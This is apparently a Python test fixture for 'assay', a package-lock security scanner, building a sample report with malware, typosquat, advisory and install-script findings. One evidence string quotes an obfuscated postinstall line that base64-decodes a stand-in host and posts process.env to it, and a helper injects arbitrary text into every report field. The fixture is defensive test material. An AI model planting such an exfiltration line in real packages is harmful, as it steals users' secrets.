"""A small Report in which everything occurs that a renderer has to show. Inert: hosts are under .invalid."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime

from assay.assessment.cover import cover
from assay.assessment.judge import judge
from assay.model.dependency import Dependency, DependencyType, Origin
from assay.model.feed import FeedInfo
from assay.model.finding import Evidence, Finding, finding
from assay.model.gap import Gap, GapKind
from assay.model.integrity import Integrity
from assay.model.location import Location
from assay.model.package import PackageRef
from assay.model.policy import Action, Decision, PolicyException, Reason
from assay.model.report import Assessed, InputRead, Report, Source
from assay.model.rule import Concern, Confidence, Rule, Severity
from assay.model.verdict import Level, Verdict

NOW = datetime(2026, 11, 20, 9, 30, tzinfo=UTC)
LOCK = "web/package-lock.json"

RULES = {
    rule.id: rule
    for rule in (
        Rule(
            "known-malware",
            "The release is recorded as malware",
            Severity.CRITICAL,
            Concern.MALICE,
            "Remove it, and treat every machine that installed it as compromised.",
            techniques=("T1195.002",),
            aspect="feed",
        ),
        Rule(
            "install-script-fetches",
            "An install script fetches or runs code",
            Severity.HIGH,
            Concern.MALICE,
            "Read the script before you install it, or install with --ignore-scripts.",
            techniques=("T1059.007",),
            aspect="metadata",
        ),
        Rule(
            "lookalike-name",
            "The name looks like a popular one",
            Severity.MEDIUM,
            Concern.MALICE,
            "Check that you mean this package.",
            aspect="name",
        ),
        Rule(
            "advisory",
            "The release has a known flaw",
            Severity.HIGH,
            Concern.VULNERABILITY,
            "Update to a fixed release.",
            aspect="feed",
        ),
        Rule(
            "deprecated",
            "The release is deprecated",
            Severity.LOW,
            Concern.HYGIENE,
            "Look for a successor.",
            aspect="metadata",
        ),
    )
}

SILENT_REGISTRY = "no answer from registry.example after 3 tries"


def usage(
    name: str,
    version: str,
    line: int,
    *via: str,
    origin: Origin = Origin.REGISTRY,
    kind: DependencyType = DependencyType.PRODUCTION,
) -> Dependency:
    return Dependency(
        ref=PackageRef(name, version),
        origin=origin,
        location=Location(LOCK, line),
        paths=(("web-shop", *via, name),),
        type=kind,
        resolved=f"https://registry.example/{name}/-/{name.split('/')[-1]}-{version}.tgz",
        integrity=Integrity.of(f"{name}@{version}".encode()),
        is_direct=not via,
    )


def assessed(
    use: Dependency,
    *findings: Finding,
    decision: Decision = Decision(Action.ALLOW),  # noqa: B008 - frozen
    gaps: tuple[Gap, ...] = (),
    source: Source = Source.FRESH,
) -> Assessed:
    return Assessed(
        ref=use.ref,
        origin=use.origin,
        verdict=judge(findings, gaps, RULES),
        decision=decision,
        usages=(use,),
        source=source,
        integrity=use.integrity,
        published=None if source is Source.NONE else datetime(2026, 11, 18, 8, 0, tzinfo=UTC),
    )


MALWARE = finding(
    RULES["known-malware"],
    "MAL-2026-1111 records crossenv 7.0.0 as malware.",
    Evidence("the feed starter holds MAL-2026-1111: steals environment variables"),
    confidence=Confidence.HIGH,
    references=("https://osv.invalid/MAL-2026-1111",),
)
SCRIPT = finding(
    RULES["install-script-fetches"],
    "The postinstall script runs a file that sends the environment to a host.",
    Evidence("postinstall runs setup.js", Location("package/package.json", 6, 5), '"postinstall": "node setup.js"'),
    Evidence(
        "sends the whole environment",
        Location("package/setup.js", 3, 12),
        "post(atob('aHR0cHM6Ly9jb2xsZWN0LmludmFsaWQveA=='), process.env)",
        "https://collect.invalid/x",
    ),
    confidence=Confidence.HIGH,
)
LOOKALIKE = finding(
    RULES["lookalike-name"],
    "crossenv looks like cross-env, which has 40,000,000 downloads a month.",
    Evidence("cross[-]env"),
    advice="You probably mean cross-env.",
)
ADVISORY = finding(
    RULES["advisory"],
    "GHSA-aaaa-bbbb-cccc: prototype pollution in minimist before 1.2.6.",
    Evidence("the feed starter holds GHSA-aaaa-bbbb-cccc"),
    confidence=Confidence.HIGH,
    advice="Update minimist to 1.2.6 or later.",
    references=("https://advisories.invalid/GHSA-aaaa-bbbb-cccc",),
)
DEPRECATED = finding(RULES["deprecated"], "The maintainer says: use something else.", Evidence("deprecated"))

ACCEPTED = PolicyException(
    "native-thing",
    "we read the script",
    "ann@example.invalid",
    date(2027, 1, 31),
    "1.x",
    rules=("install-script-fetches",),
)
EXPIRED = PolicyException("minimist", "not reachable", "bob@example.invalid", date(2026, 10, 1), "1.2.0")


def tarball_gap(ref: PackageRef) -> Gap:
    return Gap(GapKind.TARBALL, f"tarball of {ref}", SILENT_REGISTRY, "run it again later")


def packages() -> tuple[Assessed, ...]:
    warn_gap = Decision(Action.WARN, (Reason("policy.on-gaps", "Not everything could be checked."),))
    silent = [usage(f"silent-{number}", "1.0.0", 100 + number, "express") for number in range(5)]
    block = Decision(
        Action.BLOCK,
        (
            Reason("block.verdict", "The verdict is malicious: MAL-2026-1111 records crossenv 7.0.0 as malware."),
            Reason("warn.severity", "known-malware: MAL-2026-1111 records crossenv 7.0.0 as malware. (and 1 more)"),
        ),
    )
    warn = Decision(
        Action.WARN,
        (Reason("warn.severity", "advisory: GHSA-aaaa-bbbb-cccc: prototype pollution in minimist before 1.2.6."),),
        expired=(EXPIRED,),
    )
    return (
        assessed(usage("express", "5.1.0", 20)),
        assessed(usage("@scope/crossenv-tools", "1.0.0", 30, kind=DependencyType.DEVELOPMENT), source=Source.CACHED),
        assessed(usage("crossenv", "7.0.0", 42, "express", "@scope/deep"), LOOKALIKE, SCRIPT, MALWARE, decision=block),
        assessed(usage("minimist", "1.2.0", 55, "mkdirp"), ADVISORY, decision=warn),
        assessed(usage("native-thing", "1.4.2", 61), SCRIPT, decision=Decision(Action.ALLOW, applied=(ACCEPTED,))),
        assessed(usage("old-thing", "0.1.0", 70), DEPRECATED),
        *(assessed(use, decision=warn_gap, gaps=(tarball_gap(use.ref),), source=Source.NONE) for use in silent),
        replace(
            assessed(replace(usage("web-ui", "", 80, origin=Origin.WORKSPACE), integrity=None, resolved="")),
            verdict=Verdict(Level.UNKNOWN, "part of the project itself: not looked at"),
            source=Source.NONE,
            published=None,
        ),
    )


def report() -> Report:
    inputs = (
        InputRead(LOCK, "package-lock v3", 12),
        InputRead(
            "legacy/bun.lockb",
            "bun.lockb",
            0,
            (
                Gap(
                    GapKind.INPUT,
                    "legacy/bun.lockb",
                    "the binary format is not read",
                    "run bun install --save-text-lockfile",
                ),
            ),
        ),
    )
    found = packages()
    return Report(
        tool_version="0.1.0",
        ruleset="0123abcd",
        started=NOW,
        seconds=2.34,
        offline=False,
        inputs=inputs,
        packages=found,
        coverage=cover(inputs, found),
        feeds=(
            FeedInfo("starter", "r1", 1234, datetime(2026, 11, 1, tzinfo=UTC)),
            FeedInfo("osv", "r2", 50_000, datetime(2026, 11, 20, 4, tzinfo=UTC), NOW),
        ),
        gaps=(Gap(GapKind.CACHE, "verdict cache", "the folder is read-only"),),
        rules=RULES,
        notes=("proxy in shop/.npmrc was not followed: set it in your own .npmrc",),
    )


def hostile(text: str) -> Report:
    """The sample with one more package, input and gap in which every text is ``text``."""
    place = Location(text, 3, 4)
    seen = finding(
        RULES["advisory"],
        text,
        Evidence(text, place, text, text),
        advice=text,
        references=(f"https://x.invalid/{text}",),
    )
    gap = Gap(GapKind.SOURCE, text, text, text, place)
    use = Dependency(
        PackageRef(text, text), Origin.REGISTRY, place, ((text, text),), alias=text, resolved=text, requested=text
    )
    exception = PolicyException(text, text, text, date(2027, 1, 1), text, rules=(text,))
    decision = Decision(Action.BLOCK, (Reason(text, text),), (exception,), (exception,))
    package = replace(
        assessed(use, seen, decision=decision, gaps=(gap,)), verdict=Verdict(Level.MALICIOUS, text, (seen,), (gap,))
    )
    sample = report()
    return replace(
        sample,
        inputs=(*sample.inputs, InputRead(text, text, 1, (gap,))),
        packages=(*sample.packages, package),
        feeds=(*sample.feeds, FeedInfo(text, text, 1)),
        gaps=(*sample.gaps, gap),
        notes=(*sample.notes, text),
    )
